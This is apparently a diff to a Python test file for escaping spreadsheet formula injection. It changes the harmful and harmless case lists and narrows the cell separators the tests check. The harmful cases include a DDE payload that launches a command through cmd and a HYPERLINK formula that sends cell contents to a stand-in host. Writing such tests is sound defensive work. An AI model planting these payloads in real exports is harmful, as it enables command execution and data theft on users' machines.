@@ -32,7 +32,6 @@ HARMFUL = {
     "\uff1d1+1": "'\uff1d1+1",
     '"=1+1"': '\'"=1+1"',
     'flat;=cmd|"/c calc"!A1': 'flat;\'=cmd|"/c calc"!A1',
-    "flat, -1": "flat,' -1",
     "flat\r\n=1+1": "flat\r'\n'=1+1",
     '=HYPERLINK("https://example.com?"&A1;"x")': '\'=HYPERLINK("https://example.com?"&A1;"x")',
 }
@@ -45,6 +44,7 @@ HARMLESS = [
     "1-2",
     "me@example.com",
     "Kælder, 2",
+    "Vej 1, -2. th",
     "a;b",
     "Ærø 😀",
     "it's",
@@ -108,7 +108,7 @@ async def test_whatever_a_text_is_it_is_one_cell_and_begins_no_formula_also_wher
     labels = list({"".join(random.choices(alphabet, k=random.randrange(1, 9))) for _ in range(300)})
     cells = await labels_as(client, engine, headers, labels, "")
     for label, cell in cells.items():
-        for part in re.split(r"[,;\t\r\n]", cell):
+        for part in re.split(r"[;\t\r\n]", cell):
             assert not part.lstrip(' \u00a0"').startswith(tuple(FORMULAS)), (label, cell)
         assert not cell.startswith(("\t", "\r", "\n")), (label, cell)
         assert len(cell) - cell.count("'") == len(label) - label.count("'")
